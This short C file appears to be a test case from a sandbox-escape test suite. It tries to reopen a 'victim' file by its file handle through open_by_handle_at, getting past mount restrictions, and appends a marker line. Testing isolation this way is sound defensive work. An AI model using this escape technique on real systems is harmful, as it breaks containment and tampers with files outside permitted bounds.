//@ attack: a file is opened by its handle, past all mounts
//@ effect: file
#include "hostile.h"

static void attack(void)
{
	struct {
		struct file_handle handle;
		unsigned char bytes[128];
	} handle = {.handle.handle_bytes = 128};
	int mount;
	if (name_to_handle_at(AT_FDCWD, in("victim"), &handle.handle, &mount, 0)) return;
	int fd = open_by_handle_at(open("/", O_RDONLY), &handle.handle, O_WRONLY | O_APPEND);
	if (fd >= 0 && write(fd, "hostile\n", 8) != 8) perror("write");
}
